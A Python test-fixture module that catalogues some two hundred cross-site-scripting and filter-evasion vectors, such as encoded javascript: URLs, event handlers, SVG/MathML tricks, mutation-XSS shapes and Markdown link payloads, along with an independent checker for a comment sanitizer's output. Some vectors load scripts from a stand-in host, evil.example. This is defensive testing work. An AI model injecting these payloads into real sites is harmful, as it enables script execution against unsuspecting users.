"""Cross-site-scripting vectors for the comment sanitizer, the pages and the API.

In the style of the OWASP XSS Filter Evasion Cheat Sheet: script tags, event
handlers, SVG and MathML, style, ``javascript:`` URLs in every encoding a
browser decodes (case, tabs and newlines and NUL inside the scheme, decimal and
hex entities with and without semicolons and zero padding, ``&colon;``,
percent-encoding, leading spaces), other dangerous schemes, relative URLs,
malformed and nested tags, and the mutation-XSS shapes that change meaning when
a sanitizer's output is parsed again.

``VECTORS`` maps a short name (the test id) to what a commenter types.
``FRAGMENTS`` are pieces to glue into random tag soup (Hypothesis).
``ALLOWED_SAMPLES`` has every allowed tag with its allowed attribute, which
must survive. Shared by ``test_sanitize``, ``test_xss_pages`` and any other
test that wants hostile input; nothing here is imported by the app.
"""

from __future__ import annotations

import io
import re
import xml.etree.ElementTree as ET
from collections.abc import Mapping
from dataclasses import dataclass, field
from html.parser import HTMLParser
from typing import Any

import tinyhtml5  # no stubs; a WHATWG parser, as browsers parse

# The payload every vector tries to run; never seen in a cleaned attribute.
JS = "alert(1)"

VECTORS: dict[str, str] = {
    # --- Script, plainly and not -------------------------------------------------
    "script": "<script>alert(1)</script>",
    "script-src": '<script src="https://evil.example/x.js"></script>',
    "script-upper": "<SCRIPT>alert(1)</SCRIPT>",
    "script-spaced-close": "<script>alert(1)</script >",
    "script-attr-no-quotes": "<script src=//evil.example/x.js></script>",
    "script-slash-attr": '<script/xss src="https://evil.example/x.js"></script>',
    "script-double-open": "<<script>alert(1);//<</script>",
    "script-split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-unclosed": "<script>alert(1)",
    "script-half-open": '<script src="https://evil.example/x.js"',
    "script-after-title": "</title><script>alert(1)</script>",
    "script-after-textarea": "</textarea><script>alert(1)</script>",
    "script-after-quote": '"><script>alert(1)</script>',
    "script-after-apostrophe": "'><script>alert(1)</script>",
    "script-in-html-comment": "<!--<script>alert(1)</script>-->",
    "script-comment-break": "<!-- --!><script>alert(1)</script> -->",
    "script-cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "script-in-img-quotes": '<img """><script>alert(1)</script>">',
    "script-in-allowed-tag": "<b><script>alert(1)</script>bold</b>",
    "script-nul": "<scri\x00pt>alert(1)</scri\x00pt>",
    "script-entity-encoded": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "script-xmp": "<xmp><script>alert(1)</script></xmp>",
    "script-plaintext": "<plaintext><script>alert(1)</script>",
    # --- Event handlers, on forbidden and on allowed tags -----------------------------
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-quoted": '<img src="x" onerror="alert(1)">',
    "img-no-quotes-no-space": "<img src=x onerror=alert(1)//",
    "img-backtick": "<img src=`x` onerror=`alert(1)`>",
    "img-slash-separated": "<img/src=x/onerror=alert(1)>",
    "img-dynsrc": '<img dynsrc="javascript:alert(1)">',
    "image-tag": "<image src=x onerror=alert(1)>",
    "svg-onload": "<svg onload=alert(1)>",
    "svg-slash-onload": "<svg/onload=alert(1)>",
    "body-onload": "<body onload=alert(1)>",
    "b-onmouseover": "<b onmouseover=alert(1)>hover</b>",
    "strong-onclick-quoted": "<strong onclick=\"alert('1')\">click</strong>",
    "a-onclick": '<a href="https://ok.example/" onclick="alert(1)">ok</a>',
    "a-onmouseover-no-quotes": "<a href=https://ok.example/ onmouseover=alert(1)>ok</a>",
    "abbr-onfocus-tabindex": '<abbr title="x" tabindex="1" onfocus="alert(1)" autofocus>x</abbr>',
    "del-onmouseover": '<del datetime="" onmouseover="alert(1)">gone</del>',
    "q-onanimationstart": "<q style=\"animation-name:x\" onanimationstart='alert(1)'>q</q>",
    "cite-onpointerenter": "<cite onpointerenter=alert(1)>c</cite>",
    "em-uppercase-handler": "<em ONMOUSEOVER=alert(1)>e</em>",
    "i-handler-after-slash": "<i/onclick=alert(1)>i</i>",
    "code-handler-with-entity": "<code onclick=&#97;lert(1)>c</code>",
    "strike-handler-newline": "<strike\nonclick=alert(1)>s</strike>",
    "input-autofocus": "<input autofocus onfocus=alert(1)>",
    "details-ontoggle": "<details open ontoggle=alert(1)>",
    "marquee-onstart": "<marquee onstart=alert(1)>m</marquee>",
    "video-source-onerror": "<video><source onerror=alert(1)></video>",
    "audio-onerror": "<audio src=x onerror=alert(1)>",
    "select-onfocus": "<select autofocus onfocus=alert(1)></select>",
    "textarea-onfocus": "<textarea autofocus onfocus=alert(1)></textarea>",
    "keygen-onfocus": "<keygen autofocus onfocus=alert(1)>",
    "div-onpaste": '<div contenteditable onpaste="alert(1)">paste</div>',
    # --- SVG and MathML ------------------------------------------------------------
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-script-href": '<svg><script href="data:,alert(1)"></script></svg>',
    "svg-animate-href": (
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>'
        "<text x=20 y=20>click</text></a></svg>"
    ),
    "svg-set-onbegin": "<svg><set onbegin=alert(1) attributeName=x dur=1s>",
    "svg-xlink-href": (
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>'
    ),
    "svg-use-data": '<svg><use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"/></svg>',
    "svg-foreignobject": (
        "<svg><foreignObject><iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>"
        "</iframe></foreignObject></svg>"
    ),
    "svg-style-breakout": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "math-href": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "math-mtext-mglyph": (
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>"
        "</mglyph></table></mtext></math>"
    ),
    "math-a-href": '<math><a href="javascript:alert(1)">click</a></math>',
    # --- Frames, objects, documents ------------------------------------------------
    "iframe-src": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "iframe-data": '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    "frameset": '<frameset><frame src="javascript:alert(1)"></frameset>',
    "object-data": '<object data="javascript:alert(1)"></object>',
    "object-type-html": (
        '<object type="text/html" data="data:text/html;base64,'
        'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>'
    ),
    "embed-src": '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "embed-swf": '<embed src="https://evil.example/xss.swf" allowscriptaccess="always">',
    "applet": '<applet code="Evil.class" codebase="https://evil.example/"></applet>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "meta-refresh-data": (
        '<meta http-equiv="refresh" '
        'content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'
    ),
    "base-href": '<base href="https://evil.example/">',
    "link-stylesheet": '<link rel="stylesheet" href="javascript:alert(1)">',
    "link-import": '<link rel="import" href="https://evil.example/x.html">',
    "form-action": '<form action="javascript:alert(1)"><input type="submit"></form>',
    "button-formaction": '<form><button formaction="javascript:alert(1)">go</button></form>',
    "input-image": '<input type="image" src="x" onerror="alert(1)">',
    "template": "<template><script>alert(1)</script></template>",
    "template-img": "<template><img src=x onerror=alert(1)></template>",
    "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "noembed-mxss": '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    "noframes-mxss": '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>',
    "title-mxss": '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
    "textarea-mxss": '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
    "style-tag-mxss": '<style><img title="</style><img src=x onerror=alert(1)>"></style>',
    "iframe-text-mxss": '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>',
    "select-mxss": "<select><template><img src=x onerror=alert(1)></template></select>",
    "table-mxss": "<table><a href=javascript:alert(1)>x</a></table>",
    "form-nested-mxss": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    # --- Style ---------------------------------------------------------------------
    "style-tag": "<style>body{background:url(javascript:alert(1))}</style>",
    "style-tag-import": "<style>@import 'https://evil.example/x.css';</style>",
    "style-attr-expression": '<b style="width: expression(alert(1))">b</b>',
    "style-attr-url": "<i style=\"background-image: url('javascript:alert(1)')\">i</i>",
    "style-attr-escaped": '<strong style="xss:expr/*XSS*/ession(alert(1))">s</strong>',
    "style-attr-behavior": '<em style="behavior: url(xss.htc)">e</em>',
    "style-attr-moz-binding": "<cite style=\"-moz-binding: url('https://evil.example/x.xml#x')\">c</cite>",
    "div-style-overlay": (
        '<div style="position:fixed;top:0;left:0;width:100%;height:100%">'
        '<a href="https://evil.example/">win a prize</a></div>'
    ),
    # --- javascript: in href, every encoding ------------------------------------------
    "href-js": '<a href="javascript:alert(1)">x</a>',
    "href-js-single-quotes": "<a href='javascript:alert(1)'>x</a>",
    "href-js-no-quotes": "<a href=javascript:alert(1)>x</a>",
    "href-js-upper": '<a href="JAVASCRIPT:alert(1)">x</a>',
    "href-js-mixed-case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "href-js-leading-spaces": '<a href="   javascript:alert(1)">x</a>',
    "href-js-leading-meta": '<a href=" &#14;  javascript:alert(1)">x</a>',
    "href-js-raw-tab": '<a href="jav\tascript:alert(1)">x</a>',
    "href-js-raw-newline": '<a href="jav\nascript:alert(1)">x</a>',
    "href-js-raw-cr": '<a href="jav\rascript:alert(1)">x</a>',
    "href-js-raw-nul": '<a href="java\x00script:alert(1)">x</a>',
    "href-js-tab-entity-hex": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "href-js-tab-entity-dec": '<a href="jav&#9;ascript:alert(1)">x</a>',
    "href-js-newline-entity": '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    "href-js-cr-entity": '<a href="jav&#x0D;ascript:alert(1)">x</a>',
    "href-js-tab-named-entity": '<a href="jav&Tab;ascript:alert(1)">x</a>',
    "href-js-newline-named-entity": '<a href="jav&NewLine;ascript:alert(1)">x</a>',
    "href-js-dec-entities": (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;'
        '&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">x</a>'
    ),
    "href-js-dec-entities-no-semicolon": (
        '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58'
        '&#97&#108&#101&#114&#116&#40&#49&#41">x</a>'
    ),
    "href-js-dec-entities-padded": (
        '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
        "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114"
        '&#0000116&#0000040&#0000049&#0000041">x</a>'
    ),
    "href-js-hex-entities": (
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>'
    ),
    "href-js-hex-entities-no-semicolon": (
        '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3Aalert(1)">x</a>'
    ),
    "href-js-hex-entities-padded": (
        '<a href="&#x0000006A&#x00061;&#x0076;&#x61&#x73&#x63&#x72&#x69&#x70&#x74'
        '&#x00003A;alert(1)">x</a>'
    ),
    "href-js-colon-entity": '<a href="javascript&colon;alert(1)">x</a>',
    "href-js-colon-dec-entity": '<a href="javascript&#58;alert(1)">x</a>',
    "href-js-mixed-entities": '<a href="&#x6A;ava&#115;cript&#x3a;alert(1)">x</a>',
    "href-js-url-encoded": '<a href="javascript%3Aalert(1)">x</a>',
    "href-js-url-encoded-all": (
        '<a href="%6A%61%76%61%73%63%72%69%70%74%3A%61%6C%65%72%74%28%31%29">x</a>'
    ),
    "href-js-double-entity": '<a href="javascript&amp;colon;alert(1)">x</a>',
    "href-js-backtick": "<a href=`javascript:alert(1)`>x</a>",
    "href-js-unclosed-a": '<a href="javascript:alert(1)"',
    "href-js-unclosed-quote": '<a href="javascript:alert(1)>x</a>',
    "href-js-with-title": '<a href="javascript:alert(1)" title="harmless">x</a>',
    "href-js-duplicate-href": '<a href="https://ok.example/" href="javascript:alert(1)">x</a>',
    "href-js-duplicate-href-first": '<a href="javascript:alert(1)" href="https://ok.example/">x</a>',
    "href-vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "href-vbscript-upper": '<a href="VBSCRIPT:msgbox(1)">x</a>',
    "href-livescript": '<a href="livescript:alert(1)">x</a>',
    "href-data-html-base64": (
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'
    ),
    "href-data-html-plain": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "href-data-svg": '<a href="data:image/svg+xml,<svg onload=alert(1)>">x</a>',
    "href-file": '<a href="file:///etc/passwd">x</a>',
    "href-ftp": '<a href="ftp://evil.example/">x</a>',
    "href-protocol-relative": '<a href="//evil.example/">x</a>',
    "href-protocol-relative-backslash": '<a href="\\\\evil.example/">x</a>',
    "href-protocol-relative-mixed": '<a href="/\\evil.example/">x</a>',
    "href-relative-path": '<a href="/accounts/logout/">x</a>',
    "href-relative-dot": '<a href="../moderation/">x</a>',
    "href-relative-bare": '<a href="evil.example">x</a>',
    "href-fragment": '<a href="#comment-1">x</a>',
    "href-query-only": '<a href="?page=2">x</a>',
    # With no "//", a browser resolves an http(s): URL on a page of the same
    # scheme relative to the page: a same-site link that looks absolute
    # (found by this corpus).
    "href-https-no-slashes": '<a href="https:evil.example">x</a>',
    "href-https-single-slash": '<a href="https:/accounts/logout/">x</a>',
    "href-https-backslashes": '<a href="https:\\\\evil.example/">x</a>',
    "cite-https-no-slashes": '<q cite="https:/blog/moderation/">x</q>',
    # --- Other URL attributes ------------------------------------------------------
    "q-cite-js": '<q cite="javascript:alert(1)">quoted</q>',
    "q-cite-js-entities": '<q cite="&#106;avascript&colon;alert(1)">quoted</q>',
    "blockquote-cite-data": (
        '<blockquote cite="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'
        "quoted</blockquote>"
    ),
    "blockquote-cite-relative": '<blockquote cite="/admin/">quoted</blockquote>',
    "blockquote-cite-vbscript": '<blockquote cite="vbscript:msgbox(1)">quoted</blockquote>',
    "a-xlink-href": '<a xlink:href="javascript:alert(1)">x</a>',
    "a-formaction": '<a href="https://ok.example/" formaction="javascript:alert(1)">x</a>',
    "a-target-blank": '<a href="https://ok.example/" target="_blank">x</a>',
    "a-ping": '<a href="https://ok.example/" ping="https://evil.example/track">x</a>',
    "a-own-rel": '<a href="https://ok.example/" rel="opener">x</a>',
    "a-download": '<a href="https://ok.example/" download="x.exe">x</a>',
    "a-id-clobber": '<a href="https://ok.example/" id="csrfmiddlewaretoken" name="x">x</a>',
    "a-class": '<a href="https://ok.example/" class="btn btn-danger">x</a>',
    "del-datetime-attack": '<del datetime="2026-01-01" cite="javascript:alert(1)">gone</del>',
    "abbr-title-breakout": '<abbr title="x&quot; onmouseover=&quot;alert(1)">x</abbr>',
    "acronym-title-script": '<acronym title="<script>alert(1)</script>">x</acronym>',
    "img-src-js": '<img src="javascript:alert(1)">',
    "img-lowsrc": '<img lowsrc="javascript:alert(1)">',
    "bgsound": '<bgsound src="javascript:alert(1)">',
    "table-background": '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "td-background": '<table><tr><td background="javascript:alert(1)">x</td></tr></table>',
    "div-background": '<div style="background-image: url(javascript:alert(1))">x</div>',
    # --- Odd shapes ----------------------------------------------------------------
    "xml-namespace": (
        '<html xmlns:xss><?import namespace="xss" implementation="https://evil.example/x.htc">'
        "<xss:xss>XSS</xss:xss></html>"
    ),
    "processing-instruction": '<?xml-stylesheet href="javascript:alert(1)"?>',
    "doctype-entity": '<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;',
    "conditional-comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "bogus-comment": "<! foo='><script>alert(1)</script>'>",
    "end-tag-with-attrs": '</b onclick="alert(1)"><b>after</b>',
    "null-in-tag-name": "<img\x00src=x onerror=alert(1)>",
    "utf7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "unicode-fullwidth": "＜script＞alert(1)＜/script＞",
    # Attributes the issue's list does not give these tags (ammonia allows
    # lang and title on every tag unless told otherwise; found by this corpus).
    "generic-title-on-b": '<b title="x" lang="en">b</b>',
    "generic-lang-on-q": '<q lang="fr" cite="https://ok.example/">q</q>',
    "generic-title-on-code": '<code title="tip">c</code>',
    # An <a> inside an <a>, which html5ever's tree allows once the table or
    # select around it is dropped, but which a browser re-parses as siblings:
    # one cleaning was not idempotent (found by this corpus).
    "nested-a-in-table": '<a href="https://a.example/"><table><a href="https://b.example/">x</a></table>',
    "nested-a-in-select": '<a href="https://a.example/"><select><a href="https://b.example/">x</a>',
    "nested-a": '<a href="https://ok.example/"><a href="javascript:alert(1)">x</a></a>',
    "markdown-link-js": "[click](javascript:alert(1))",
    "bbcode-url": "[url=javascript:alert(1)]click[/url]",
    "lone-lt": "3 < 4 & 5 > 2 <3",
}

# Vectors that are harmless as typed (text, or markup a browser ignores):
# the check below finds nothing in them. Every other vector it must flag, or
# the check would prove nothing.
INERT: frozenset[str] = frozenset(
    {
        "script-entity-encoded",  # text
        "img-no-quotes-no-space",  # an unclosed tag at the end of the input is dropped
        "href-js-unclosed-a",
        "href-js-unclosed-quote",
        "abbr-title-breakout",  # the quote is an entity inside the value
        "end-tag-with-attrs",  # attributes on an end tag mean nothing
        "utf7",  # text (no UTF-7 pages here)
        "unicode-fullwidth",  # text
        "markdown-link-js",  # text
        "bbcode-url",  # text
        "lone-lt",  # text
    }
)

# Markdown a member could put in a post: links and images in every form
# markdown-it accepts, with the schemes and encodings above.
MARKDOWN_VECTORS: dict[str, str] = {
    "md-link-js": "[x](javascript:alert(1))",
    "md-link-js-upper": "[x](JAVASCRIPT:alert(1))",
    "md-link-js-entity": "[x](&#106;avascript:alert(1))",
    "md-link-js-hex-entities": "[x](&#x6A;avascript&colon;alert(1))",
    "md-link-js-percent-newline": "[x](java%0ascript:alert(1))",
    "md-link-js-angle-tab": "[x](<java\tscript:alert(1)>)",
    "md-link-js-angle-entity": "[x](<javascript&#58;alert(1)>)",
    "md-link-vbscript": "[x](vbscript:msgbox(1))",
    "md-link-data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "md-link-file": "[x](file:///etc/passwd)",
    "md-link-protocol-relative": "[x](//evil.example/)",
    "md-link-backslash": "[x](/\\evil.example/)",
    "md-link-title-breakout": '[x](https://ok.example/ "t" onmouseover=alert(1)")',
    "md-reference-js": "[x][r]\n\n[r]: javascript:alert(1)",
    "md-autolink-js": "<javascript:alert(1)>",
    "md-autolink-data": "<data:text/html,<script>alert(1)</script>>",
    "md-image-js": "![x](javascript:alert(1))",
    "md-image-data-svg": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "md-image-http": "![tracking](http://evil.example/pixel.png)",
    "md-image-onerror-title": '![x](https://ok.example/x.png "x" onerror="alert(1)")',
    "md-raw-html-script": "Hello <script>alert(1)</script>",
    "md-raw-html-block": "<div onmouseover=alert(1)>\n\n*hi*\n\n</div>",
    "md-raw-html-img": "<img src=x onerror=alert(1)>",
    "md-code-span": "`<script>alert(1)</script>`",
    "md-fenced-html": "```html\n<script>alert(1)</script>\n```",
    "md-heading-handler": "# <img src=x onerror=alert(1)>",
    "md-table-cell": "| a | b |\n|---|---|\n| <svg onload=alert(1)> | [x](javascript:alert(1)) |",
}

# Pieces glued at random into tag soup (test_sanitize's Hypothesis property):
# opening and closing halves of tags, attribute fragments, quotes and entities.
FRAGMENTS: tuple[str, ...] = (
    "<",
    ">",
    "</",
    "/>",
    '"',
    "'",
    "`",
    "=",
    " ",
    "\t",
    "\n",
    "\x00",
    "<a",
    "<a href=",
    "</a>",
    "<b>",
    "</b>",
    "<q cite=",
    "<blockquote cite=",
    "<del datetime=",
    "<abbr title=",
    "<img",
    "<svg",
    "<math>",
    "<script>",
    "</script>",
    "<style>",
    "</style>",
    "<noscript>",
    "</noscript>",
    "<textarea>",
    "</textarea>",
    "<title>",
    "</title>",
    "<template>",
    "<iframe",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    " onerror=",
    " onclick=",
    " onmouseover=",
    " style=",
    " src=",
    " href=",
    " xlink:href=",
    " formaction=",
    "javascript:",
    "java\tscript:",
    "jav&#x09;ascript:",
    "&#106;avascript:",
    "javascript&colon;",
    "vbscript:",
    "data:text/html,",
    "//evil.example/",
    "https://ok.example/",
    "mailto:a@ok.example",
    "alert(1)",
    "&lt;",
    "&amp;",
    "&quot;",
    "&#",
    "x",
)

# Every allowed tag with its allowed attribute and a good value: (input, tag, attrs).
# Each must come out with that tag and exactly those attributes (plus ``rel`` on ``a``).
ALLOWED_SAMPLES: tuple[tuple[str, str, dict[str, str]], ...] = (
    (
        '<a href="https://example.org/page?x=1&amp;y=2" title="A page">link</a>',
        "a",
        {"href": "https://example.org/page?x=1&y=2", "title": "A page"},
    ),
    ('<a href="http://example.org/">plain http</a>', "a", {"href": "http://example.org/"}),
    ('<a href="mailto:hello@example.org">write</a>', "a", {"href": "mailto:hello@example.org"}),
    ('<abbr title="Virtual assistant">VA</abbr>', "abbr", {"title": "Virtual assistant"}),
    (
        '<acronym title="Coordinated Universal Time">UTC</acronym>',
        "acronym",
        {"title": "Coordinated Universal Time"},
    ),
    ("<b>bold</b>", "b", {}),
    (
        '<blockquote cite="https://example.org/source">quoted</blockquote>',
        "blockquote",
        {"cite": "https://example.org/source"},
    ),
    ("<cite>A Book</cite>", "cite", {}),
    ("<code>x = 1</code>", "code", {}),
    (
        '<del datetime="2026-11-20T09:00:00Z">old</del>',
        "del",
        {"datetime": "2026-11-20T09:00:00Z"},
    ),
    ("<em>stressed</em>", "em", {}),
    ("<i>aside</i>", "i", {}),
    ('<q cite="https://example.org/said">said</q>', "q", {"cite": "https://example.org/said"}),
    ("<strike>struck</strike>", "strike", {}),
    ("<strong>strong</strong>", "strong", {}),
)


# --- The independent check ------------------------------------------------------------
#
# What a sanitizer's output may contain, checked by parsers that are not the
# sanitizer's own (nh3 parses with html5ever): Python's tokenizer
# (html.parser) sees every tag and attribute as written; tinyhtml5 builds the
# tree a browser would (WHATWG tree construction), so markup that changes
# meaning when parsed again (mutation XSS) shows up as the element it becomes.

# The issue's list, exactly: tag -> attributes.
ISSUE_ALLOWED_HTML: dict[str, frozenset[str]] = {
    "a": frozenset({"href", "title"}),
    "abbr": frozenset({"title"}),
    "acronym": frozenset({"title"}),
    "b": frozenset(),
    "blockquote": frozenset({"cite"}),
    "cite": frozenset(),
    "code": frozenset(),
    "del": frozenset({"datetime"}),
    "em": frozenset(),
    "i": frozenset(),
    "q": frozenset({"cite"}),
    "strike": frozenset(),
    "strong": frozenset(),
}
COMMENT_LINK_REL = "nofollow ugc noopener noreferrer"

# Attributes whose value a browser follows or loads as a URL, on any tag.
URL_ATTRIBUTES = frozenset(
    {"href", "src", "cite", "action", "formaction", "data", "background", "poster",
     "codebase", "dynsrc", "lowsrc", "srcset", "xlink:href", "ping", "longdesc", "usemap"}
)  # fmt: skip
# What a browser ignores in a URL before it reads the scheme ("java\tscript:").
_URL_IGNORED = re.compile(r"[\x00-\x20\x7f]")
_SCHEME = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.\-]*):")
_DOCUMENT_TAGS = frozenset({"html", "head", "body"})


@dataclass(frozen=True)
class Policy:
    """What a piece of sanitized HTML may contain."""

    allowed: Mapping[str, frozenset[str]]
    schemes: frozenset[str]
    # The ``rel`` every ``<a>`` must carry, exactly (added by the sanitizer).
    link_rel: str
    # Site-relative URLs ("/blog/…", "#notes") are fine in a post, not in a comment.
    relative_ok: bool = False
    # Attributes (by tag) allowed only with these schemes (a post's images: https).
    schemes_for: Mapping[tuple[str, str], frozenset[str]] = field(default_factory=dict)


COMMENT_POLICY = Policy(
    allowed=ISSUE_ALLOWED_HTML,
    schemes=frozenset({"http", "https", "mailto"}),
    link_rel=COMMENT_LINK_REL,
)

# A post's Markdown renders to an article's HTML: paragraphs, headings from h2,
# lists, tables, code, links (site-relative too), images over https only.
POST_POLICY = Policy(
    allowed={
        **{tag: frozenset() for tag in (
            "p", "br", "hr", "strong", "em", "b", "i", "code", "pre", "blockquote", "ul",
            "li", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "del", "s",
        )},
        "a": frozenset({"href", "title"}),
        "img": frozenset({"src", "alt", "title"}),
        "ol": frozenset({"start"}),
        "th": frozenset({"align"}),
        "td": frozenset({"align"}),
    },
    schemes=frozenset({"http", "https", "mailto"}),
    link_rel="noopener noreferrer",
    relative_ok=True,
    schemes_for={("img", "src"): frozenset({"https"})},
)  # fmt: skip


def url_problem(value: str, *, schemes: frozenset[str], relative_ok: bool) -> str | None:
    """Why ``value`` (an attribute value, entities already decoded) is not a
    safe URL under ``schemes``; None when it is.

    A URL is read the way a browser reads it: whitespace and control
    characters removed, then the scheme. An ``http:``/``https:`` URL must
    have its ``//`` (or ``\\``): without it, on a page of the same scheme,
    the browser resolves it relative to the page (``https:/accounts/…``).
    """
    candidate = _URL_IGNORED.sub("", value)
    match = _SCHEME.match(candidate)
    if match is None:
        site_path = candidate.startswith("/") and candidate[1:2] not in ("/", "\\")
        if relative_ok and (candidate.startswith("#") or site_path):
            return None
        return f"relative URL {value!r}"
    scheme = match.group(1).lower()
    if scheme not in schemes:
        return f"scheme {scheme!r} in {value!r}"
    rest = candidate[match.end() :]
    if scheme in ("http", "https") and not re.match(r"[/\\]{2}", rest):
        return f"{scheme}: URL without // (relative on a {scheme} page) {value!r}"
    return None


def _attribute_problems(
    tag: str, attributes: Mapping[str, str | None], policy: Policy
) -> list[str]:
    problems = []
    allowed = policy.allowed.get(tag, frozenset()) | ({"rel"} if tag == "a" else set())
    for name, raw in attributes.items():
        value = raw or ""
        if name.lower().startswith("on"):
            problems.append(f"event handler <{tag} {name}={value!r}>")
        if name not in allowed:
            problems.append(f"attribute <{tag} {name}={value!r}>")
        bare = name.rsplit("}", 1)[-1]
        if bare in URL_ATTRIBUTES or name in URL_ATTRIBUTES:
            schemes = policy.schemes_for.get((tag, name), policy.schemes)
            problem = url_problem(value, schemes=schemes, relative_ok=policy.relative_ok)
            if problem:
                problems.append(f"<{tag} {name}>: {problem}")
    if tag == "a" and tag in policy.allowed and attributes.get("rel") != policy.link_rel:
        problems.append(f"<a> with rel={attributes.get('rel')!r}, not {policy.link_rel!r}")
    return problems


class _Tokens(HTMLParser):
    """Every tag, attribute, comment and declaration as Python's tokenizer sees them."""

    def __init__(self, policy: Policy) -> None:
        super().__init__(convert_charrefs=True)
        self.policy = policy
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in self.policy.allowed:
            self.problems.append(f"tag <{tag}>")
        names = [name for name, _ in attrs]
        if len(names) != len(set(names)):
            self.problems.append(f"repeated attribute in <{tag}>: {names}")
        self.problems += _attribute_problems(tag, dict(attrs), self.policy)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        if tag not in self.policy.allowed:
            self.problems.append(f"end tag </{tag}>")

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"comment <!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.problems.append(f"declaration <!{decl}>")

    def handle_pi(self, data: str) -> None:
        self.problems.append(f"processing instruction <?{data}>")

    def unknown_decl(self, data: str) -> None:
        self.problems.append(f"declaration <![{data}]>")


def browser_parse(html: str) -> ET.Element:
    """``html`` parsed as a browser parses a document (WHATWG HTML).

    Through a stream: tinyhtml5 reads a short ``str`` that names an existing
    file as that file's path, and fails on one too long to be a path.
    """
    root: ET.Element = tinyhtml5.parse(io.StringIO(html), namespace_html_elements=False)
    return root


def _tree_problems(html: str, policy: Policy) -> list[str]:
    problems = []
    root = browser_parse(html)
    for element in root.iter():
        tag: Any = element.tag
        if tag in _DOCUMENT_TAGS:
            # The parser's own wrapper; an attribute on it came from the
            # fragment (<body onload=…> merges into the body element).
            if element.attrib:
                problems.append(f"tree: <{tag}> got attributes {element.attrib}")
            if tag == "head" and len(element):
                problems.append(f"tree: <head> got {[child.tag for child in element]}")
            continue
        problems += [f"tree: {p}" for p in element_problems(element, policy)]
    return problems


def element_problems(element: ET.Element, policy: Policy = COMMENT_POLICY) -> list[str]:
    """What ``policy`` does not allow in one element of a parsed tree (its
    tag and attributes; not its children)."""
    tag: Any = element.tag
    if not isinstance(tag, str):  # a comment (ElementTree.Comment) or the like
        return [f"non-element node {element.text!r}"]
    problems = [] if tag in policy.allowed else [f"element {tag}"]
    return problems + _attribute_problems(tag, element.attrib, policy)


def elements(html: str) -> list[ET.Element]:
    """The elements of a fragment as a browser builds them, its wrapper excluded."""
    body = browser_parse(html).find("body")
    assert body is not None
    return list(body.iter())[1:]


def html_problems(html: str, policy: Policy = COMMENT_POLICY) -> list[str]:
    """Everything in ``html`` that ``policy`` does not allow; empty when safe."""
    problems = []
    if "<script" in html.lower():
        problems.append("raw <script")
    tokens = _Tokens(policy)
    tokens.feed(html)
    tokens.close()
    problems += tokens.problems
    problems += _tree_problems(html, policy)
    return problems
